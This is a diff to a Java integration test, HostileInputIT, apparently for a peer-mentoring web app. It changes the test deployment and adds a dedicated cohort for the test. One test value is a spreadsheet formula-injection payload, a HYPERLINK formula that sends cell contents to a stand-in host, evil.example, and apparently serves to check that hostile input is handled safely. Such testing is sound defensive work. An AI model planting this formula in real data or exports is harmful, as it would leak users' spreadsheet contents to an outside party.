@@ -31,6 +31,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 
 import dk.peermentor.testing.Deployments;
+import dk.peermentor.testing.TodaysCohort;
 import dk.peermentor.testing.WebUser;
 import dk.peermentor.testing.WebUser.Page;
 
@@ -48,10 +49,9 @@ class HostileInputIT {
 
     static final String PASSWORD = "peer-demo-2026";
 
-    @Deployment(testable = false)
+    @Deployment
     static WebArchive deployment() {
-        return Deployments.application("hostile-input", Map.of("peermentor.demo", "true"))
-                .addClass(DatabaseFingerprint.class);
+        return Deployments.shared();
     }
 
     @ArquillianResource
@@ -210,8 +210,10 @@ class HostileInputIT {
         WebUser coordinator = WebUser.loggedIn(app, Visitor.COORDINATOR.email, PASSWORD);
         WebUser trainer = WebUser.loggedIn(app, Visitor.TRAINER.email, PASSWORD);
         WebUser graduate = WebUser.loggedIn(app, Visitor.GRADUATE.email, PASSWORD);
-        String cohort = trainer.get("trainer/").document().select("a[href*=cohort?id=]").first().attr("href")
-                .replaceAll(".*id=", "");
+        // A cohort of its own: the test renames it and enrols someone.
+        TodaysCohort.create(app, "Hold til formler");
+        String cohort = trainer.get("trainer/").document().select("a[href*=cohort?id=]:contains(Hold til formler)").first()
+                .attr("href").replaceAll(".*id=", "");
         String area = "=HYPERLINK(\"http://evil.example/?\"&A2&B2,\"Fjordby\")";
         Page matching = graduate.get("trainee/matching");
         if (matching.document().getElementById("consent:give") != null) {
